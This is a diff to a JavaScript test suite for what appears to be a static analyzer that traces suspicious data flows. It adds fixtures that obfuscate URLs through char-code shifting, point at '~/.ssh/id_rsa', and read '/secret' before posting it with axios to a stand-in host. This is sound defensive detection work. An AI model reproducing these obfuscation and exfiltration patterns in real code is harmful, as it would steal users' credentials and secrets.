@@ -63,14 +63,16 @@ it.each([
   ["decodeURIComponent('http%3A%2F%2Fa')", 'http://a'],
   ["'\\x68\\u0074tp://a'", 'http://a'],
   ["path.join(os.homedir(), '.ssh', 'id_rsa')", '~/.ssh/id_rsa'],
-  ["[105, 117, 117, 113, 59].map((c) => String.fromCharCode(c - 1)).join('')", undefined],
+  ["[105, 117, 117, 113, 59, 48, 48, 98].map((c) => String.fromCharCode(c - 1)).join('')", 'http://a'],
+  ["'iuuq;00b'.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('')", 'http://a'],
+  ['`${process.env.HOME}/.ssh`', '~/.ssh'],
 ])('folds %s', async (expression, text) => {
   const facts = await factsOf({
     'a.js': `import os from 'os'; import path from 'path'; fetch(${expression})`,
   })
   const fetch = facts.find((fact) => fact['code.call.name'] === 'fetch')
   expect(fetch).toBeDefined()
-  if (text !== undefined) expect(fetch?.['code.call.arguments']).toEqual([text])
+  expect(fetch?.['code.call.arguments']).toEqual([text])
 })
 
 it('follows data through promises, callbacks, objects and destructuring', async () => {
@@ -90,6 +92,23 @@ fs.readFileSync('/secret', 'utf8').split('\\n').forEach((line) => axios.post('ht
     'fetch(https://c.example) -> eval via a.js:6',
     'fs.readFileSync(/secret) -> axios.post via a.js:7',
   ])
+})
+
+it('follows data through what a promise is given', async () => {
+  const facts = await factsOf({
+    'a.js': `import https from 'node:https'
+import axios from 'axios'
+import fs from 'node:fs'
+const load = () => new Promise((resolve, reject) => {
+  let data = ''
+  fs.createReadStream('/secret').on('data', (chunk) => { data += chunk })
+  fs.readFile('/x', () => resolve(data + fs.readFileSync('/secret')))
+})
+const text = await load()
+axios.post('https://a.example', text)
+`,
+  })
+  expect(flows(facts)).toEqual(['fs.readFileSync(/secret) -> axios.post via a.js:7 a.js:4 a.js:9 a.js:10'])
 })
 
 it('follows data through classes and across files', async () => {
